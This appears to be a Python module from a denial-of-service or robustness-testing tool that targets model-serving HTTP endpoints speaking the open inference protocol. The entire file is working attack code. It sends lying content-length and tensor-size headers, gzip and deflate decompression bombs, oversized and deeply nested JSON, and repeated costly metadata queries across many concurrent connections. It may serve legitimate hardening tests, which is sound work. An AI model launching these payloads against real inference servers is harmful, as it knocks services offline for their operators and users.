"""The open inference protocol on the HTTP port: lengths that lie, bodies that inflate, and numbers that are none."""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Mapping, Sequence
from typing import Final

from .target import Target, again, together
from .web import connected, count_answer

_LENGTH: Final = "Inference-Header-Content-Length"
_INFER: Final = "/v2/models//infer"
_QUESTIONS: Final = ("GET /v2/models/stats", "GET /v2/models/", "GET /v2/models//config", "GET /v2/models//stats")


async def lying_headers(target: Target, *, count: int = 16, kib: int = 1024) -> None:
    """Bodies of a megabyte whose JSON is said to be longer, shorter, or of no length, and tensors that say the same of
    their bytes; from 16 connections.

    Aims at: whoever believes a length.
    """
    pixels = bytes(kib * 1024)
    text = _text([1, kib * 1024 // 48, 16, 3], len(pixels))
    right = text + pixels
    lies = [str(len(text) - 1), str(len(text) + 1), "0", "-1", "99999999999", str(len(right) + 1), "0x10", "1" * 40]
    requests = [_request(target, right, {_LENGTH: lie}) for lie in lies]
    for size in (len(pixels) - 1, len(pixels) + 1, -1, 2**63, 0):
        said = _text([1, 16, 16, 3], size)
        requests.append(_request(target, said + pixels, {_LENGTH: str(len(said))}))
    await _ask_again(target, requests, count)


async def bombs(target: Target, *, count: int = 16, mib: int = 64) -> None:
    """Bodies of 64 MiB of zeros, compressed to 64 kB by gzip and by deflate, from 16 connections.

    Aims at: what a body costs once it is inflated.
    """
    zeros = bytes(mib * 2**20)
    requests = [
        _request(target, gzip.compress(zeros, 6), {"Content-Encoding": "gzip"}),
        _request(target, zlib.compress(zeros, 6), {"Content-Encoding": "deflate"}),
        _request(target, gzip.compress(zeros, 6), {"Content-Encoding": "gzip", _LENGTH: "10"}),
    ]
    await _ask_again(target, requests, count)


async def costly_json(target: Target, *, count: int = 8, kib: int = 3900) -> None:
    """Tensors in 4 MiB of JSON: a word as long as that among thousands of empty ones, a million lists, two million
    numbers; shapes, inputs and questions of the same size; from eight connections.

    Aims at: arrays that have room for the longest word, everywhere; and what is done for each item of a list.
    """
    size = kib * 1024
    data = (
        '["' + "x" * (size // 2) + '"' + ',""' * (size // 7) + "]",
        "[" + ",".join(["[1]"] * (size // 4)) + "]",
        "[" + "1," * (size // 2 - 1) + "1]",
        "[" * 900 + "]" * 900,
    )
    bodies = [f'{{"inputs":[{{"name":"input","datatype":"FP32","shape":[1],"data":{one}}}]}}' for one in data]
    bodies.append('{"inputs":[' + ",".join(["{}"] * (size // 3)) + "]}")
    bodies.append('{"inputs":[{"name":"image","datatype":"UINT8","data":[1],"shape":[' + "9," * (size // 2) + "9]}]}")
    bodies.append('{"inputs":[],"id":"' + "x" * size + '"}')
    requests = [_request(target, body.encode()) for body in bodies]
    requests.append(_request(target, b'{"ready":[' + b"1," * (size // 2) + b"1]}", path="/v2/repository/index"))
    await _ask_again(target, requests, count)


async def questions(target: Target, *, count: int = 64) -> None:
    """Statistics, metadata and configuration from 64 connections, one after the other.

    Aims at: answers that are made anew for each.
    """
    given = "".join(f"{name}: {value}\r\n" for name, value in target.headers.items())
    requests = [f"{question} HTTP/1.1\r\nHost: attacked\r\n{given}\r\n".encode() for question in _QUESTIONS]
    await _ask_again(target, requests, count)


def _text(shape: Sequence[int], size: int) -> bytes:
    """The JSON of a request whose tensor is said to have so many bytes behind it."""
    tensor = {"name": "image", "datatype": "UINT8", "shape": shape, "parameters": {"binary_data_size": size}}
    return json.dumps({"inputs": [tensor]}).encode()


def _request(target: Target, body: bytes, headers: Mapping[str, str] | None = None, path: str = _INFER) -> bytes:
    lines = {"Host": "attacked", "Content-Length": str(len(body)), **target.headers, **(headers or {})}
    head = "".join(f"{name}: {value}\r\n" for name, value in lines.items())
    return f"POST {path} HTTP/1.1\r\n{head}\r\n".encode() + body


async def _ask_again(target: Target, requests: Sequence[bytes], count: int) -> None:
    """From so many connections, one request after the other."""

    async def attempt(number: int) -> None:
        async with connected(target) as (reader, writer):
            for request in [*requests[number % len(requests) :], *requests[: number % len(requests)]]:
                writer.write(request)
                await writer.drain()
                await count_answer(target, reader)

    await together(count, lambda number: again(target, lambda: attempt(number)))
